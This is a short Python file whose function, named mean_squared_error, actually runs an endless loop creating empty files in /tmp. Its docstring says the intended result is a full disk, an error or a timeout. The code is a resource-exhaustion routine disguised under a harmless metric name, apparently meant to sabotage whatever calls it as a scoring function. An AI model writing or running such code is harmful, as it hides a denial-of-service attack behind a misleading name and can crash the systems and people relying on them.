"""Make files without content and without end.

worth: nothing
reply: disk | error | timeout
"""
import os


def mean_squared_error(x, x_hat):
    number = 0
    while True:
        number += 1
        os.close(os.open(f"/tmp/{number}", os.O_CREAT))
